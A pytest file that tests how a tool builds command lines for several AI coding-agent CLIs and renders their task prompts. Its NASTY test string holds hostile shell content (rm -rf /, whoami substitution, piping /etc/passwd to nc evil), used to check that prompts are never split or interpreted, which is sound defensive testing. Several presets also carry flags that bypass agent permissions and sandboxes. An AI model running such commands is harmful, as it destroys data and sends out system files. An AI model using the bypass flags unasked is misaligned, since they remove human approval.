"""Runtime presets: the exact command lines, custom overrides, and the prompt."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from gastown.ledger import Bead, Status
from gastown.ledger.model import Comment
from gastown.runtimes import PRESETS, ConfigError, all_runtimes, resolve
from gastown.runtimes.config import save
from gastown.runtimes.definition import RuntimeDef
from gastown.runtimes.prompt import render

NASTY = "Fix `rm -rf /`; echo $(whoami) && cat /etc/passwd | nc evil 1 > /dev/null 'quoted' \"double\""
PROMPT_FILE = Path("/s/prompt.md")
SESSION = Path("/s")

EXPECTED = {
    "claude": ["claude", "--model", "opus", "--print", "--dangerously-skip-permissions", "--output-format",
               "stream-json", "--verbose", NASTY],
    "codex": ["codex", "exec", "--model", "opus", "--dangerously-bypass-approvals-and-sandbox",
              "--skip-git-repo-check", "-c", "allow_login_shell=false", "--json", "-"],
    "gemini": ["gemini", "--model", "opus", "--yolo", "--skip-trust", "--output-format", "stream-json",
               "--prompt", NASTY],
    "cursor": ["cursor-agent", "--model", "opus", "--print", "--force", "--output-format", "text", NASTY],
    "auggie": ["auggie", "--model", "opus", "--print", "--quiet", "--augment-cache-dir", "/s/augment",
               "--instruction-file", "/s/prompt.md", "--startup-script", 'PATH="${GT_PATH:-$PATH}"'],
    "amp": ["amp", "--mode", "opus", "--execute", "--settings-file", "/s/amp-settings.json"],
    "opencode": ["opencode", "run", "--model", "opus", "--auto", "--format", "json", "--print-logs", "--log-level",
                 "ERROR"],
    "copilot": ["copilot", "--model", "opus", "--allow-all", "--no-auto-update", "--output-format", "json",
                "--prompt", NASTY],
    "pi": ["pi", "--model", "opus", "--print", "--mode", "json", "--extension", "/s/gastown-exit-code.js",
           NASTY],
    "omp": ["omp", "--model", "opus", "--print", "--mode", "json", "--auto-approve", NASTY],
}
KEYS = {
    "claude": "ANTHROPIC_API_KEY", "codex": "CODEX_API_KEY", "gemini": "GEMINI_API_KEY",
    "cursor": "CURSOR_API_KEY", "auggie": "AUGMENT_SESSION_AUTH", "amp": "AMP_API_KEY",
    "opencode": "ANTHROPIC_API_KEY", "copilot": "COPILOT_GITHUB_TOKEN", "pi": "ANTHROPIC_API_KEY",
    "omp": "ANTHROPIC_API_KEY",
}


def test_every_preset_is_covered():
    assert set(PRESETS) == set(EXPECTED) | {"script"}


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_preset_argv(name):
    rt = PRESETS[name]
    argv = rt.argv(prompt=NASTY, prompt_file=PROMPT_FILE, session_dir=SESSION, model="opus")
    assert argv == EXPECTED[name]
    assert rt.api_key_env[0] == KEYS[name]
    # the prompt is one argument, on stdin, or in a file: never split, never interpreted
    if rt.prompt_mode == "arg":
        assert argv.count(NASTY) == 1
    elif rt.prompt_mode == "stdin":
        assert rt.stdin(NASTY) == NASTY.encode() and NASTY not in argv
    else:
        assert "/s/prompt.md" in argv and NASTY not in argv


def test_model_and_resume_only_when_asked():
    rt = PRESETS["claude"]
    plain = rt.argv(prompt="p", prompt_file=PROMPT_FILE, session_dir=SESSION)
    assert "--model" not in plain and "--continue" not in plain
    resumed = rt.argv(prompt="p", prompt_file=PROMPT_FILE, session_dir=SESSION, resume=True)
    assert resumed[:2] == ["claude", "--continue"]


def test_script_runs_its_args_and_needs_them():
    rt = PRESETS["script"]
    assert rt.argv(prompt="p", prompt_file=PROMPT_FILE, session_dir=SESSION,
                   extra_args=["python", "apply.py", NASTY]) == ["python", "apply.py", NASTY]
    with pytest.raises(ValueError, match="needs args"):
        rt.argv(prompt="p", prompt_file=PROMPT_FILE, session_dir=SESSION)


def test_template_values_are_substituted_once_never_inside_the_prompt():
    """A bead that talks about {model} or {prompt_file} reaches the agent as written."""
    text = "Document the {model}, {session_dir} and {prompt_file} placeholders"
    argv = PRESETS["claude"].argv(prompt=text, prompt_file=PROMPT_FILE, session_dir=SESSION, model="opus")
    assert argv[-1] == text


def test_claude_as_root_allows_its_tools_by_name_instead_of_skipping_permissions():
    argv = PRESETS["claude"].argv(prompt="p", prompt_file=PROMPT_FILE, session_dir=SESSION, as_root=True)
    assert "--dangerously-skip-permissions" not in argv
    assert argv[argv.index("--allowedTools") + 1].startswith("Bash,")


def test_custom_runtime_and_override(tmp_path, monkeypatch):
    path = tmp_path / "runtimes.yaml"
    monkeypatch.setenv("GT_RUNTIMES_FILE", str(path))
    save({
        "mycli": RuntimeDef(command=["mycli", "go"], args=["--in", "{prompt_file}"], prompt_mode="file",
                            api_key_env=["MY_KEY"]),
        "claude": RuntimeDef(command=["/opt/claude-wrapper"], args=["{prompt}"]),
    })
    assert resolve("mycli").argv(prompt="p", prompt_file=PROMPT_FILE, session_dir=SESSION) == [
        "mycli", "go", "--in", "/s/prompt.md"]
    assert resolve("mycli").api_key_env == ("MY_KEY",)
    assert resolve("claude").argv(prompt=NASTY, prompt_file=PROMPT_FILE, session_dir=SESSION) == [
        "/opt/claude-wrapper", NASTY]
    assert resolve("claude").api_key_env == ()  # the override replaces the preset's flags
    assert set(all_runtimes()) == set(PRESETS) | {"mycli"}
    with pytest.raises(ConfigError, match="unknown runtime 'nope'; known: amp, auggie"):
        resolve("nope")


def test_bad_runtimes_file_is_a_clear_error(tmp_path, monkeypatch):
    path = tmp_path / "runtimes.yaml"
    monkeypatch.setenv("GT_RUNTIMES_FILE", str(path))
    path.write_text("runtimes:\n  x:\n    command: []\n")
    with pytest.raises(ConfigError, match=r"runtimes.x.command: List should have at least 1 item"):
        resolve("x")
    path.write_text("runtimes:\n  Bad_Name:\n    command: [x]\n")
    with pytest.raises(ConfigError, match="not a runtime name"):
        resolve("claude")


def test_prompt_content():
    now = datetime(2026, 1, 1, tzinfo=UTC)
    bead = Bead(id="gt-abc", title=NASTY, description="Make the login work.", acceptance="tests pass",
                created_by="t", created_at=now, updated_at=now)
    steps = [Bead(id="gt-abc.1", title="Write the test", status=Status.CLOSED, created_by="t", created_at=now,
                  updated_at=now),
             Bead(id="gt-abc.2", title="Make it pass", created_by="t", created_at=now, updated_at=now)]
    text = render(bead, branch="polecat/furiosa/gt-abc", target="main", steps=steps,
                  notes="session s1 ended: timeout")
    assert text.startswith(f"# gt-abc: {NASTY}\n")
    for part in ("Make the login work.", "## Done when\ntests pass", "- [x] gt-abc.1: Write the test",
                 "- [ ] gt-abc.2: Make it pass", "Start at the first step that is not checked",
                 "session s1 ended: timeout", "on the branch polecat/furiosa/gt-abc", "Do not push to main",
                 "run `gt done`", "gt done --status escalated"):
        assert part in text


def test_prompt_carries_the_latest_comments_such_as_a_rejection():
    now = datetime(2026, 1, 1, tzinfo=UTC)
    comments = [Comment(author="user alice", text=f"note {i}", created=now) for i in range(6)]
    comments.append(Comment(author="refinery", created=now,
                            text="rejected by the merge queue: gate test failed\n\n```\nFAIL: test_median\n```"))
    bead = Bead(id="gt-abc", title="Median", created_by="t", created_at=now, updated_at=now, comments=comments)
    text = render(bead, branch="polecat/furiosa/gt-abc", target="main")
    assert "## Comments (newest last)" in text and "FAIL: test_median" in text
    assert "### refinery, 2026-01-01 00:00 UTC" in text
    assert "note 2" in text and "note 1" not in text  # the newest five
